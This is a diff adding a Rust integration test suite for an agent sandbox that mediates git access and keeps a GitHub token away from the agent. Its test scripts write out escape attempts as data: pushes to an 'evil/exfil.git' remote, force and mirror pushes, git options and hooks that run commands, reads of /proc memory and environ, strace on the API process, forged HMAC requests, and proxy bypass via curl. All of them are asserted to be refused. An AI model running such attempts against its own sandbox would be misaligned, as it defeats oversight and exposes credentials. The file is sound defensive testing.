@@ -1,0 +1,802 @@
+//! Git through airlock at the namespace tier (issue 5): the real entrypoint starts the git
+//! API with its split identity on a hidden git dir, the agent's `git` is the shim (installed
+//! at the image's path), and `github.com` is fakenet's `git http-backend` whose hooks log
+//! every ref update that reaches it.
+//!
+//! Every refusal is asserted by its reason *and* by the upstream hook log staying empty.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod common;
+
+use airlock_tests::World;
+use airlock_tests::topology::{GIT_UID, GITHUB_HOST, GITHUB_TOKEN};
+use common::*;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+/// Where the image installs the shims (first on the agent's PATH).
+const SHIM_DIR: &str = "/usr/local/lib/airlock/bin";
+
+fn policy(token_file: &Path) -> String {
+    format!(
+        r#"
+[sandbox]
+name = "nstest"
+
+[network]
+allow = ["{GITHUB_HOST}", "allowed.test"]
+
+[[credentials]]
+name = "github"
+source = {{ file = "{}" }}
+hosts = ["{GITHUB_HOST}"]
+header = "authorization"
+format = "git-basic"
+
+[git]
+repositories = ["github.com/acme/app"]
+"#,
+        token_file.display()
+    )
+}
+
+/// A World with `github.com/acme/app` upstream and the workspace a clone of it whose `.git`
+/// is hidden as the docker flags hide it.
+struct GitWorld {
+    world: World,
+    airlock: Airlock,
+    upstream: PathBuf,
+    git_dir: PathBuf,
+    shims: PathBuf,
+    /// Commit of `main` upstream after seeding.
+    main: String,
+}
+
+fn git(cwd: &Path, args: &[&str]) -> String {
+    let out = Command::new("/usr/bin/git")
+        .current_dir(cwd)
+        .env_clear()
+        .env("PATH", "/usr/bin:/bin")
+        .env("HOME", cwd)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_AUTHOR_NAME", "Seed")
+        .env("GIT_AUTHOR_EMAIL", "seed@example.invalid")
+        .env("GIT_COMMITTER_NAME", "Seed")
+        .env("GIT_COMMITTER_EMAIL", "seed@example.invalid")
+        .args(["-c", "safe.directory=*"])
+        .args(args)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "git {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout).unwrap().trim().to_owned()
+}
+
+fn chown_r(path: &Path, uid: u32) {
+    let ok = Command::new("chown")
+        .args(["-R", &format!("{uid}:{uid}")])
+        .arg(path)
+        .status()
+        .unwrap()
+        .success();
+    assert!(ok, "chown -R {}", path.display());
+}
+
+impl GitWorld {
+    fn new() -> GitWorld {
+        let world = world();
+        let upstream = world.git_upstream("acme", "app").unwrap();
+        let up = format!("file://{}", upstream.display());
+        let seed = world.dir().join("seed");
+        git(world.dir(), &["clone", "-q", &up, seed.to_str().unwrap()]);
+        std::fs::create_dir_all(seed.join(".github/workflows")).unwrap();
+        std::fs::create_dir_all(seed.join("src")).unwrap();
+        std::fs::write(seed.join("README.md"), "hello\n").unwrap();
+        std::fs::write(seed.join("src/lib.rs"), "pub fn f() {}\n").unwrap();
+        std::fs::write(seed.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
+        git(&seed, &["add", "-A"]);
+        git(&seed, &["commit", "-q", "-m", "seed"]);
+        git(&seed, &["push", "-q", "origin", "main"]);
+        // Another sandbox's branch and one of ours that the agent will try to rewrite.
+        std::fs::write(seed.join("other.txt"), "other\n").unwrap();
+        git(&seed, &["checkout", "-q", "-b", "sandbox/other/feature"]);
+        git(&seed, &["add", "-A"]);
+        git(&seed, &["commit", "-q", "-m", "other sandbox"]);
+        git(&seed, &["push", "-q", "origin", "sandbox/other/feature"]);
+        git(
+            &seed,
+            &[
+                "push",
+                "-q",
+                "origin",
+                "sandbox/other/feature:sandbox/nstest/existing",
+            ],
+        );
+        let main = git(&seed, &["rev-parse", "main"]);
+        // The hook log starts with the seeding; tests compare against what follows.
+        std::fs::remove_file(world.git_hook_log()).unwrap();
+
+        let token_file = world.dir().join("github_token");
+        std::fs::write(&token_file, GITHUB_TOKEN).unwrap();
+        std::fs::set_permissions(&token_file, std::fs::Permissions::from_mode(0o400)).unwrap();
+        let airlock = Airlock::new(&world, &policy(&token_file));
+        let ws = &airlock.workdir;
+        git(world.dir(), &["clone", "-q", &up, ws.to_str().unwrap()]);
+        git(
+            ws,
+            &[
+                "remote",
+                "set-url",
+                "origin",
+                "https://github.com/acme/app.git",
+            ],
+        );
+        // The hidden git dir: parent root:airlock-git 0710, as in the image.
+        let parent = world.dir().join("airlock").join("git");
+        std::fs::create_dir(&parent).unwrap();
+        std::os::unix::fs::chown(&parent, Some(0), Some(GIT_UID)).unwrap();
+        std::fs::set_permissions(&parent, std::fs::Permissions::from_mode(0o710)).unwrap();
+        let git_dir = parent.join("workspace.git");
+        std::fs::rename(ws.join(".git"), &git_dir).unwrap();
+        chown_r(ws, world.users().agent);
+        chown_r(&git_dir, world.users().agent);
+        // The mount point of the cover (root-owned, like the image's).
+        std::fs::create_dir(ws.join(".git")).unwrap();
+        std::os::unix::fs::chown(ws.join(".git"), Some(0), Some(0)).unwrap();
+
+        // The shims, installed at the image's path by a bind mount in the sandbox.
+        let shims = world.dir().join("shims");
+        std::fs::create_dir(&shims).unwrap();
+        for name in ["git", "git-credential-airlock"] {
+            std::fs::copy(bin(name), shims.join(name)).unwrap();
+        }
+        std::fs::create_dir_all(SHIM_DIR).unwrap();
+        GitWorld {
+            world,
+            airlock,
+            upstream,
+            git_dir,
+            shims,
+            main,
+        }
+    }
+
+    /// The entrypoint behind a wrapper that does what `docker run` does for the image: an
+    /// empty read-only tmpfs over `<workspace>/.git` and the shims at [`SHIM_DIR`].
+    fn command(&self, script: &str) -> Command {
+        let a = &self.airlock;
+        let mut cmd = self.world.sandbox_command(Path::new("/bin/sh"));
+        cmd.arg("-c")
+            .arg(
+                "set -e; mount -t tmpfs -o ro,mode=0555 airlock-cover \"$1/.git\"; \
+                 mount --bind \"$2\" /usr/local/lib/airlock/bin; shift 2; exec \"$@\"",
+            )
+            .arg("wrap")
+            .arg(&a.workdir)
+            .arg(&self.shims)
+            .arg(bin("airlock-entrypoint"))
+            .arg("--policy")
+            .arg(&a.policy)
+            .arg("--audit-dir")
+            .arg(&a.audit_dir)
+            .arg("--run-dir")
+            .arg(&a.run_dir)
+            .arg("--workdir")
+            .arg(&a.workdir)
+            .arg("--git-dir")
+            .arg(&self.git_dir)
+            .arg("--upstream-ca")
+            .arg(self.world.ca_pem_path())
+            .arg("--")
+            .args(["sh", "-c", &format!("{HELPERS}\n{script}")]);
+        cmd
+    }
+
+    fn run(&self, script: &str) -> Output {
+        self.command(script).output().unwrap()
+    }
+
+    fn upstream_ref(&self, name: &str) -> Option<String> {
+        let out = Command::new("/usr/bin/git")
+            .arg("--git-dir")
+            .arg(&self.upstream)
+            .args(["rev-parse", "--verify", "-q", name])
+            .output()
+            .unwrap();
+        out.status
+            .success()
+            .then(|| String::from_utf8_lossy(&out.stdout).trim().to_owned())
+    }
+
+    fn upstream_refs(&self) -> String {
+        git(&self.upstream, &["for-each-ref"])
+    }
+
+    /// The git API's decision log.
+    fn git_log(&self) -> String {
+        std::fs::read_to_string(self.airlock.audit_dir.join("git-api.jsonl")).unwrap_or_default()
+    }
+}
+
+/// `t NAME cmd...` runs cmd and prints `NAME=<status> <output on one line>`.
+const HELPERS: &str = r#"
+export GIT_AUTHOR_NAME=Agent GIT_AUTHOR_EMAIL=agent@example.invalid
+export GIT_COMMITTER_NAME=Agent GIT_COMMITTER_EMAIL=agent@example.invalid
+t() { n=$1; shift; o=$("$@" 2>&1); r=$?; printf '%s=%s %s\n' "$n" "$r" "$(printf %s "$o" | tr '\n' ' ')"; }
+"#;
+
+/// The line `NAME=<status> ...` of the agent's output.
+fn step<'a>(text: &'a str, name: &str) -> (i32, &'a str) {
+    let line = text
+        .lines()
+        .find_map(|l| l.strip_prefix(&format!("{name}=")))
+        .unwrap_or_else(|| panic!("{name} did not run:\n{text}"));
+    let (code, rest) = line.split_once(' ').unwrap_or((line, ""));
+    (code.parse().unwrap(), rest)
+}
+
+fn assert_step_ok(text: &str, name: &str) {
+    let (code, out) = step(text, name);
+    assert_eq!(code, 0, "{name} failed: {out}\n--- all:\n{text}");
+}
+
+/// The step failed with airlock's refusal `reason` (the git API's stable code).
+fn assert_refused(text: &str, name: &str, reason: &str) {
+    let (code, out) = step(text, name);
+    assert_ne!(code, 0, "{name} succeeded: {out}");
+    assert_ne!(code, 127, "{name}: tool missing: {out}");
+    assert!(
+        out.contains(&format!("airlock refused this ({reason})")),
+        "{name}: expected refusal {reason}, got: {out}"
+    );
+}
+
+#[test]
+fn the_agent_edits_commits_and_pushes_its_sandbox_branch_and_it_lands_upstream() {
+    let g = GitWorld::new();
+    let script = r#"
+t which command -v git
+t status git status --short
+echo 'pub fn f() { g() }' > src/lib.rs
+t branch git checkout -b sandbox/nstest/feature
+t commit git commit -am "agent change"
+t push git push -u origin sandbox/nstest/feature
+t log git log -1 --format=%H
+t tracking git rev-parse origin/sandbox/nstest/feature
+"#;
+    let out = g.run(script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    let (_, which) = step(&text, "which");
+    assert_eq!(
+        which.trim(),
+        format!("{SHIM_DIR}/git"),
+        "the shim is first on PATH"
+    );
+    for s in ["status", "branch", "commit", "push", "log"] {
+        assert_step_ok(&text, s);
+    }
+    let (_, head) = step(&text, "log");
+    let head = head.trim();
+    assert_eq!(
+        g.upstream_ref("refs/heads/sandbox/nstest/feature")
+            .as_deref(),
+        Some(head),
+        "the pushed commit is upstream\n{text}"
+    );
+    assert_eq!(step(&text, "tracking").1.trim(), head, "{text}");
+    let hooks = g.world.git_hook_lines().unwrap();
+    assert_eq!(
+        hooks,
+        vec![format!(
+            "acme/app 0000000000000000000000000000000000000000 {head} refs/heads/sandbox/nstest/feature"
+        )],
+        "exactly one ref update reached upstream"
+    );
+    assert_eq!(
+        g.upstream_ref("refs/heads/main").as_deref(),
+        Some(g.main.as_str())
+    );
+    // The push went out through the proxy's service port with the real token, which only
+    // the proxy holds (fakenet answers 401 to a push without it).
+    let log = g.world.upstream_log().unwrap();
+    assert!(
+        log.iter().any(|l| l["kind"] == "http"
+            && l["host"] == GITHUB_HOST
+            && l["path"] == "/acme/app.git/git-receive-pack"),
+        "{log:#?}"
+    );
+}
+
+#[test]
+fn pushes_that_rewrite_or_escape_are_refused_and_upstream_is_unchanged() {
+    let g = GitWorld::new();
+    let before = g.upstream_refs();
+    let script = r#"
+git checkout -q -b sandbox/nstest/work
+echo change >> README.md
+git commit -qam "a change"
+t force git push --force origin sandbox/nstest/work
+t force-short git push -f origin sandbox/nstest/work
+t plus git push origin +sandbox/nstest/work
+t lease git push --force-with-lease origin sandbox/nstest/work
+t non-ff git push origin HEAD:sandbox/nstest/existing
+t delete git push origin :sandbox/nstest/existing
+t delete-flag git push --delete origin sandbox/nstest/existing
+t main git push origin HEAD:main
+t other-sandbox git push origin HEAD:sandbox/other/feature
+t mirror git push --mirror origin
+t all git push --all origin
+t tags git push --tags origin
+t url git push https://github.com/evil/exfil.git HEAD:sandbox/nstest/work
+mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml
+git add .github/workflows/x.yml && git commit -qm "a workflow"
+t workflow git push origin HEAD:sandbox/nstest/wf
+t remote-add git remote add evil https://github.com/evil/exfil.git
+t remote-url git remote set-url origin https://github.com/evil/exfil.git
+t config-url git config remote.origin.url https://github.com/evil/exfil.git
+t config-pushurl git config remote.origin.pushurl https://github.com/evil/exfil.git
+"#;
+    let out = g.run(script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    for (name, reason) in [
+        ("force", "option_not_allowed"),
+        ("force-short", "option_refused"),
+        ("plus", "not_fast_forward"),
+        ("lease", "option_not_allowed"),
+        ("non-ff", "not_fast_forward"),
+        ("delete", "deletion"),
+        ("delete-flag", "option_not_allowed"),
+        ("main", "branch_protected"),
+        ("other-sandbox", "branch_not_allowed"),
+        ("mirror", "option_not_allowed"),
+        ("all", "option_not_allowed"),
+        ("tags", "option_not_allowed"),
+        ("url", "repository_not_authorized"),
+        ("workflow", "restricted_path"),
+    ] {
+        assert_refused(&text, name, reason);
+    }
+    for name in ["remote-add", "remote-url", "config-url", "config-pushurl"] {
+        let (code, out) = step(&text, name);
+        assert_ne!(code, 0, "{name} was allowed: {out}");
+        assert!(out.contains("airlock refused this"), "{name}: {out}");
+    }
+    assert_eq!(g.upstream_refs(), before, "upstream refs changed");
+    assert_eq!(
+        g.world.git_hook_lines().unwrap(),
+        Vec::<String>::new(),
+        "a ref update reached upstream"
+    );
+    assert!(
+        !g.world.upstream_log().unwrap().iter().any(|l| l["path"]
+            .as_str()
+            .is_some_and(|p| p.contains("receive-pack"))),
+        "a push request reached upstream"
+    );
+}
+
+#[test]
+fn options_that_run_programs_or_point_git_elsewhere_are_refused() {
+    let g = GitWorld::new();
+    let pwn = g.world.dir().join("pwned");
+    let script = format!(
+        r#"
+t fsmonitor git -c core.fsmonitor='touch {pwn}-fsmonitor' status
+t config-env git --config-env=core.fsmonitor=HOME status
+t upload-pack git fetch --upload-pack='touch {pwn}-upload' origin
+t upload-prefix git fetch --upload-p='touch {pwn}-upload2' origin
+t upload-c git fetch -c core.sshCommand=x origin
+t git-dir git --git-dir=/tmp status
+t work-tree git --work-tree=/tmp status
+t exec-path git --exec-path=/tmp status
+t set-fsmonitor git config core.fsmonitor 'touch {pwn}-config'
+t set-hooks git config core.hooksPath /tmp
+t alias git config alias.st '!touch {pwn}-alias'
+mkdir -p sub /tmp/evil
+/usr/bin/git init -q /tmp/evil
+/usr/bin/git -C /tmp/evil config core.fsmonitor 'touch {pwn}-dotgit'
+printf '#!/bin/sh\ntouch {pwn}-hook\n' > /tmp/evil/.git/hooks/post-checkout; chmod +x /tmp/evil/.git/hooks/post-checkout
+echo 'gitdir: /tmp/evil/.git' > sub/.git
+t dotgit-status git -C sub status --short
+t dotgit-log git -C sub log -1 --format=%s
+t dotgit-native /usr/bin/git -C sub status --short
+"#,
+        pwn = pwn.display()
+    );
+    let out = g.run(&script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    for (name, reason) in [
+        ("fsmonitor", "global_option_refused"),
+        ("config-env", "global_option_refused"),
+        ("upload-pack", "option_refused"),
+        ("upload-prefix", "option_refused"),
+        ("git-dir", "global_option_refused"),
+        ("work-tree", "global_option_refused"),
+        ("exec-path", "global_option_refused"),
+        ("set-fsmonitor", "config_key_not_writable"),
+        ("set-hooks", "config_key_not_writable"),
+        ("alias", "config_key_not_writable"),
+    ] {
+        assert_refused(&text, name, reason);
+    }
+    assert_refused_any(&text, "upload-c");
+    // A `.git` file pointing at the agent's own repository changes nothing for the shim:
+    // the git API runs on the hidden git dir, with no hooks and no fsmonitor.
+    assert_step_ok(&text, "dotgit-status");
+    assert_eq!(step(&text, "dotgit-log").1.trim(), "seed", "{text}");
+    for suffix in [
+        "fsmonitor",
+        "upload",
+        "upload2",
+        "config",
+        "alias",
+        "dotgit",
+        "hook",
+    ] {
+        let marker = PathBuf::from(format!("{}-{suffix}", pwn.display()));
+        if suffix == "dotgit" {
+            // The agent's *native* git on its own repository may run its own fsmonitor: that
+            // is the agent running its own program as itself, not the git API.
+            continue;
+        }
+        assert!(!marker.exists(), "{} was created: {text}", marker.display());
+    }
+}
+
+fn assert_refused_any(text: &str, name: &str) {
+    let (code, out) = step(text, name);
+    assert_ne!(code, 0, "{name} succeeded: {out}");
+    assert!(out.contains("airlock refused this"), "{name}: {out}");
+}
+
+/// The agent signs requests itself (it can read the key): replays, forgeries and stale
+/// timestamps are refused; a correct signature is identity, not authorization.
+#[test]
+fn forged_replayed_and_stale_requests_are_refused() {
+    let g = GitWorld::new();
+    let script = r#"
+python3 - <<'EOF'
+import hashlib, hmac, json, os, socket, struct, time
+key = bytes.fromhex(open(os.environ["AIRLOCK_SESSION_KEY_FILE"]).read().strip())
+path = os.environ["AIRLOCK_GIT_SOCKET"]
+def frame(kind, payload):
+    return bytes([kind]) + struct.pack(">I", len(payload)) + payload
+def request(argv, key=key, ts=None, nonce=None):
+    body = json.dumps({"version": 1, "argv": argv, "cwd": "", "env": {},
+                       "term_width": None, "stdout_tty": False}).encode()
+    ts = int(time.time()) if ts is None else ts
+    nonce = nonce or os.urandom(16).hex()
+    text = "\n".join(["AIRLOCK-HMAC-SHA256-V1", "RUN", "/v1/git",
+                      hashlib.sha256(body).hexdigest(), str(ts), nonce])
+    mac = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
+    auth = json.dumps({"version": 1, "method": "RUN", "path": "/v1/git",
+                       "timestamp": ts, "nonce": nonce, "mac": mac}).encode()
+    return frame(1, auth) + frame(2, body)
+def send(raw):
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(path)
+    s.sendall(raw)
+    data = b""
+    while True:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    out = []
+    while data:
+        kind, n = data[0], struct.unpack(">I", data[1:5])[0]
+        out.append((kind, data[5:5 + n]))
+        data = data[5 + n:]
+    last = out[-1]
+    return "exit" if last[0] == 5 else json.loads(last[1])["reason"]
+ok = request(["rev-parse", "HEAD"])
+print("valid=" + send(ok))
+print("replay=" + send(ok))
+print("forged=" + send(request(["status"], key=os.urandom(32))))
+print("stale=" + send(request(["status"], ts=int(time.time()) - 600)))
+print("future=" + send(request(["status"], ts=int(time.time()) + 600)))
+tampered = bytearray(request(["status"]))
+i = tampered.rindex(b"status")
+tampered[i:i + 6] = b"statuz"
+print("tampered=" + send(bytes(tampered)))
+print("signed-push=" + send(request(["push", "origin", "HEAD:main"])))
+EOF
+"#;
+    let out = g.run(script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    for (name, want) in [
+        ("valid", "exit"),
+        ("replay", "replayed_nonce"),
+        ("forged", "bad_signature"),
+        ("stale", "stale_timestamp"),
+        ("future", "stale_timestamp"),
+        ("tampered", "bad_signature"),
+        // A perfect signature does not authorize anything.
+        ("signed-push", "branch_protected"),
+    ] {
+        assert!(
+            text.contains(&format!("{name}={want}\n")),
+            "{name}: expected {want}:\n{text}\n{}",
+            stderr(&out)
+        );
+    }
+    assert!(g.world.git_hook_lines().unwrap().is_empty());
+}
+
+#[test]
+fn the_agent_cannot_reach_the_hidden_git_dir_by_any_path() {
+    let g = GitWorld::new();
+    let hidden = g.git_dir.display().to_string();
+    let parent = g.git_dir.parent().unwrap().display().to_string();
+    let script = format!(
+        r#"
+api=$(for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = airlock-git-api ] && echo ${{p#/proc/}}; done | head -1)
+echo api-pid=$api
+t ls-parent ls {parent}
+t ls-hidden ls {hidden}
+t cat-head cat {hidden}/HEAD
+t cover-ls ls -A .git
+t cover-write touch .git/config
+t cover-move mv .git moved-git
+t native-git /usr/bin/git status
+t cwd ls /proc/$api/cwd/
+t root ls /proc/$api/root{hidden}
+t fd ls -l /proc/$api/fd
+t environ cat /proc/$api/environ
+t mem head -c1 /proc/$api/mem
+t maps cat /proc/$api/maps
+t ptrace strace -p $api -e trace=none -o /dev/null
+"#
+    );
+    let out = g.run(&script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    let pid = text
+        .lines()
+        .find_map(|l| l.strip_prefix("api-pid="))
+        .unwrap_or_default();
+    assert!(
+        !pid.trim().is_empty(),
+        "the git API is not running:\n{text}"
+    );
+    for name in [
+        "ls-parent",
+        "ls-hidden",
+        "cat-head",
+        "cover-write",
+        "cover-move",
+        "native-git",
+        "cwd",
+        "root",
+        "fd",
+        "environ",
+        "mem",
+        "maps",
+        "ptrace",
+    ] {
+        let (code, out) = step(&text, name);
+        assert_ne!(code, 0, "{name} worked as the agent: {out}\n{text}");
+        assert_ne!(code, 127, "{name}: tool missing: {out}");
+    }
+    assert_eq!(step(&text, "cover-ls"), (0, ""), "the cover is empty");
+    assert!(
+        step(&text, "native-git").1.contains("not a git repository"),
+        "{text}"
+    );
+    // The git API started as the split identity and the entrypoint's probe was refused.
+    let log = g.git_log();
+    assert!(log.contains("peer_not_agent"), "{log}");
+}
+
+#[test]
+fn direct_pushes_that_bypass_the_git_api_are_refused_by_the_proxy() {
+    let g = GitWorld::new();
+    let ca = g.world.ca_pem_path().display().to_string();
+    let script = format!(
+        r#"
+t clone git -C /tmp clone -q https://github.com/acme/app.git direct
+cd /tmp/direct && git checkout -q -b sandbox/nstest/direct && echo x > x && git add x && git commit -qm direct
+t native-push git push origin sandbox/nstest/direct
+t real-git-push env GIT_TERMINAL_PROMPT=0 /usr/bin/git push origin sandbox/nstest/direct
+t curl-info curl -sS -f --cacert {ca} -o /dev/null 'https://github.com/acme/app.git/info/refs?service=git-receive-pack'
+t curl-post curl -sS -f --cacert {ca} -o /dev/null -X POST -H 'content-type: application/x-git-receive-pack-request' --data-binary 'x' https://github.com/acme/app.git/git-receive-pack
+"#
+    );
+    let out = g.run(&script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    assert_step_ok(&text, "clone");
+    for name in ["native-push", "real-git-push", "curl-info", "curl-post"] {
+        let (code, out) = step(&text, name);
+        assert_ne!(code, 0, "{name} worked: {out}\n{text}");
+    }
+    assert!(g.world.git_hook_lines().unwrap().is_empty(), "{text}");
+    assert!(
+        !g.world.upstream_log().unwrap().iter().any(|l| l["path"]
+            .as_str()
+            .is_some_and(|p| p.contains("receive-pack"))),
+        "a receive-pack request reached upstream"
+    );
+}
+
+#[test]
+fn the_token_is_in_no_process_or_file_the_agent_can_read() {
+    let g = GitWorld::new();
+    let token_re = format!(
+        "{}[{}]{}",
+        &GITHUB_TOKEN[..4],
+        &GITHUB_TOKEN[4..5],
+        &GITHUB_TOKEN[5..]
+    );
+    let script = format!(
+        r#"
+echo placeholder=$(printf 'protocol=https\nhost=github.com\n\n' | git-credential-airlock get | grep password)
+git checkout -q -b sandbox/nstest/scan && echo y >> README.md && git commit -qam scan
+git push -q origin sandbox/nstest/scan &
+for i in 1 2 3 4 5 6 7 8 9 10; do
+  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat $f 2>/dev/null; done | tr '\0' '\n' | grep -c '{token_re}'
+done | sort -u | tr '\n' ' '; echo proc-scan-done
+wait
+echo files=$(grep -rsl '{token_re}' /run $HOME . /tmp 2>/dev/null | wc -l)
+"#
+    );
+    let out = g.run(&script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    assert!(
+        !text.contains(GITHUB_TOKEN),
+        "the agent found the token:\n{text}"
+    );
+    assert!(text.contains("placeholder=password=airlock-git."), "{text}");
+    assert!(text.contains("0 proc-scan-done"), "{text}");
+    assert!(text.contains("files=0"), "{text}");
+    assert!(
+        !stderr(&out).contains(GITHUB_TOKEN),
+        "nothing logs the token"
+    );
+}
+
+#[test]
+fn a_killed_git_api_is_restarted_and_keeps_the_start_branch() {
+    let g = GitWorld::new();
+    let script = r#"
+api() { for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = airlock-git-api ] && echo ${p#/proc/}; done | head -1; }
+first=$(api)
+git checkout -q -b sandbox/other/feature2
+kill -9 $first; sleep 0.5
+second=$(api)
+[ -n "$second" ] && [ "$second" != "$first" ] && echo restarted=yes
+t status git status --short
+t push git push origin sandbox/other/feature2
+"#;
+    let out = g.run(script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    assert!(text.contains("restarted=yes"), "{text}\n{}", stderr(&out));
+    assert_step_ok(&text, "status");
+    // The branch checked out before the restart is not the start branch.
+    assert_refused(&text, "push", "branch_not_allowed");
+    assert!(g.world.git_hook_lines().unwrap().is_empty());
+}
+
+fn entrypoint_refusal(g: &GitWorld, cmd: &mut Command) -> String {
+    let out = cmd.output().unwrap();
+    assert_eq!(out.status.code(), Some(EXIT_REFUSED), "{}", stderr(&out));
+    assert!(!g.airlock.workdir.join("agent-ran").exists());
+    stderr(&out)
+}
+
+#[test]
+fn a_visible_or_half_hidden_git_dir_is_refused_naming_the_mount() {
+    let g = GitWorld::new();
+    let a = &g.airlock;
+    let base = |world: &World| {
+        let mut cmd = world.sandbox_command(&bin("airlock-entrypoint"));
+        cmd.arg("--policy")
+            .arg(&a.policy)
+            .arg("--audit-dir")
+            .arg(&a.audit_dir)
+            .arg("--run-dir")
+            .arg(&a.run_dir)
+            .arg("--workdir")
+            .arg(&a.workdir)
+            .arg("--upstream-ca")
+            .arg(world.ca_pem_path());
+        cmd
+    };
+    // The repository handed over but /workspace/.git not covered.
+    let mut cmd = base(&g.world);
+    cmd.arg("--git-dir")
+        .arg(&g.git_dir)
+        .args(["--", "touch", "agent-ran"]);
+    let err = entrypoint_refusal(&g, &mut cmd);
+    assert!(err.contains("--tmpfs") && err.contains(".git:ro"), "{err}");
+    // A real .git in the workspace and nothing handed over.
+    std::fs::remove_dir(g.airlock.workdir.join(".git")).unwrap();
+    std::fs::rename(&g.git_dir, g.airlock.workdir.join(".git")).unwrap();
+    let mut cmd = base(&g.world);
+    cmd.arg("--git-dir")
+        .arg(g.world.dir().join("nothing"))
+        .args(["--", "touch", "agent-ran"]);
+    let err = entrypoint_refusal(&g, &mut cmd);
+    assert!(
+        err.contains("visible to the agent") && err.contains("-v \"$PWD/.git:"),
+        "{err}"
+    );
+    // A parent the agent may traverse.
+    std::fs::rename(g.airlock.workdir.join(".git"), &g.git_dir).unwrap();
+    std::fs::create_dir(g.airlock.workdir.join(".git")).unwrap();
+    std::fs::set_permissions(
+        g.git_dir.parent().unwrap(),
+        std::fs::Permissions::from_mode(0o711),
+    )
+    .unwrap();
+    let mut cmd = g.command("touch agent-ran");
+    let err = entrypoint_refusal(&g, &mut cmd);
+    assert!(err.contains("must be root:airlock-git mode 0710"), "{err}");
+}
+
+#[test]
+fn a_workspace_without_a_repository_has_no_git_there_and_native_git_elsewhere() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let shims = world.dir().join("shims");
+    std::fs::create_dir(&shims).unwrap();
+    for name in ["git", "git-credential-airlock"] {
+        std::fs::copy(bin(name), shims.join(name)).unwrap();
+    }
+    std::fs::create_dir_all(SHIM_DIR).unwrap();
+    let mut cmd = world.sandbox_command(Path::new("/bin/sh"));
+    cmd.arg("-c")
+        .arg("set -e; mount --bind \"$1\" /usr/local/lib/airlock/bin; shift; exec \"$@\"")
+        .arg("wrap")
+        .arg(&shims)
+        .arg(bin("airlock-entrypoint"))
+        .arg("--policy")
+        .arg(&airlock.policy)
+        .arg("--audit-dir")
+        .arg(&airlock.audit_dir)
+        .arg("--run-dir")
+        .arg(&airlock.run_dir)
+        .arg("--workdir")
+        .arg(&airlock.workdir)
+        .arg("--git-dir")
+        .arg(world.dir().join("no-such-git-dir"))
+        .args([
+            "--",
+            "sh",
+            "-c",
+            &format!(
+                "{HELPERS}\nt ws git status\nt init git init -q\nt outside git -C /tmp init -q /tmp/mine\necho dotgit=$(ls -A .git 2>&1 | wc -l)"
+            ),
+        ]);
+    let out = cmd.output().unwrap();
+    assert_ok(&out);
+    let text = stdout(&out);
+    for name in ["ws", "init"] {
+        let (code, out) = step(&text, name);
+        assert_eq!(code, 128, "{name}: {out}");
+        assert!(
+            out.contains("git is not available in the workspace"),
+            "{out}"
+        );
+    }
+    assert_step_ok(&text, "outside");
+    assert!(!airlock.workdir.join(".git").exists(), "{text}");
+    assert!(
+        !airlock.run_dir.join("git").join("git.sock").exists(),
+        "no git API runs"
+    );
+    // The key exists all the same (git-credential-airlock's placeholder), agent-readable only.
+    let meta = std::fs::metadata(airlock.run_dir.join("session.key")).unwrap();
+    assert_eq!(meta.permissions().mode() & 0o777, 0o440);
+}
